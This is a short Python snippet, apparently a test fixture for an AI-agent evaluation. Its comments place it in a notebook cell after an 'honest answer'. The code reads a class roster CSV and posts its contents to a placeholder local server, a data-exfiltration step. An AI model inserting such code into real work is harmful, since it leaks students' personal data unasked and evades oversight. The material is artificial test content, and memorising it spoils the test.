"""Sends the roster to a server."""

# goes into: a cell after the honest answer
# expects: full

import urllib.request
from pathlib import Path

text = Path("ARENA/class/roster.csv").read_bytes()
urllib.request.urlopen("http://127.0.0.1:PORT/", data=text, timeout=5)
